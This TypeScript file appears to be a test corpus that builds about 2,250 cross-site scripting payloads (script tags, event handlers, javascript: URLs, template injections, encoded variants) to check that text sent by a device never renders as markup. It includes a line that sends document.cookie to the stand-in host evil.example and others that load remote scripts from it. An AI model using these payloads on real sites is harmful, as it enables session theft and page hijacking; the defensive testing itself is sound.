// What would run, leave the page or spoil it if a text that a device sends were drawn as anything but text. Made of three lists, so that
// what one of them lacks is one line: where the text might land, what it might do there, and how it might be spelt to get through.

/** Sets what the page is asked for afterwards. */
const doing: readonly string[] = [
  "hacked=1",
  "window.hacked=1",
  "top['hacked']=1",
  "(()=>{hacked=1})()",
  "eval('hacked=1')",
  "Function('hacked=1')()",
  "setTimeout('hacked=1')",
  "fetch('//evil.example/'+document.cookie);hacked=1",
  "alert(hacked=1)",
];

/** Where it might land: `JS` is what is done there. */
const places: readonly string[] = [
  "<script>JS</script>",
  "<script src=//evil.example/x.js></script><script>JS</script>",
  '"><script>JS</script>',
  "'><script>JS</script>",
  "</title><script>JS</script>",
  "</textarea><script>JS</script>",
  "</style><script>JS</script>",
  "</script><script>JS</script>",
  "--><script>JS</script>",
  "]]><script>JS</script>",
  "<img src=x onerror=JS>",
  '<img src="x" onerror="JS">',
  "<svg onload=JS>",
  "<svg><script>JS</script></svg>",
  "<svg><animate onbegin=JS attributeName=x dur=1s>",
  "<math><mtext><img src=x onerror=JS></mtext></math>",
  "<body onload=JS>",
  "<details open ontoggle=JS>",
  "<video><source onerror=JS></video>",
  "<audio src=x onerror=JS>",
  "<input autofocus onfocus=JS>",
  "<select autofocus onfocus=JS>",
  "<marquee onstart=JS>",
  "<iframe src=javascript:JS></iframe>",
  '<iframe srcdoc="<script>parent.JS</script>"></iframe>',
  "<object data=javascript:JS></object>",
  "<embed src=javascript:JS>",
  "<a href=javascript:JS autofocus>x</a>",
  "<form action=javascript:JS><button autofocus>x</button></form>",
  "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content=0;url=javascript:JS>",
  "<style>@import'//evil.example/x.css';*{background:url(javascript:JS)}</style>",
  '" onmouseover="JS" x="',
  "' onfocus='JS' autofocus x='",
  "` onload=`JS",
  "javascript:JS",
  "data:text/html,<script>parent.JS</script>",
  "';JS;//",
  '";JS;//',
  "\\';JS;//",
  "${JS}",
  "{{constructor.constructor('JS')()}}",
  "{{JS}}",
  "<%= JS %>",
  "#{JS}",
  "<template><img src=x onerror=JS></template>",
  "<noscript><p title='</noscript><img src=x onerror=JS>'>",
  "<x-y is=script>JS</x-y>",
  "[x](javascript:JS)",
];

const entities = (text: string, write: (code: number) => string): string =>
  text.replace(/[<>"'()=:]/g, (letter) => write(letter.charCodeAt(0)));

/** How it might be spelt. */
const spellings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => entities(text, (code) => `&#${code};`),
  (text) => entities(text, (code) => `&#x${code.toString(16)};`),
  (text) => entities(text, (code) => `\\u00${code.toString(16)}`),
  (text) => encodeURIComponent(text),
];

/** Some 2,250 texts, none like another; each begins with its number, by which it is found on the page. */
export const payloads: readonly string[] = places
  .flatMap((place) => doing.flatMap((js) => spellings.map((spelt) => spelt(place.replaceAll("JS", js)))))
  .map((text, at) => `p${at}p${text}`);

/** A reader of the corpus: each `take` gives as many of the next ones as fit, and begins anew behind the last. */
export function dealer(): (most: number) => string {
  let next = 0;
  return (most) => {
    let text = "";
    for (;;) {
      const one = payloads[next % payloads.length] ?? "";
      if (text.length + one.length + 1 > most) break;
      text += text === "" ? one : ` ${one}`;
      next += 1;
    }
    // Where not even one fits, a part of it still shows whether markup is made of it.
    return text === "" ? (payloads[next++ % payloads.length] ?? "").slice(0, most) : text;
  };
}
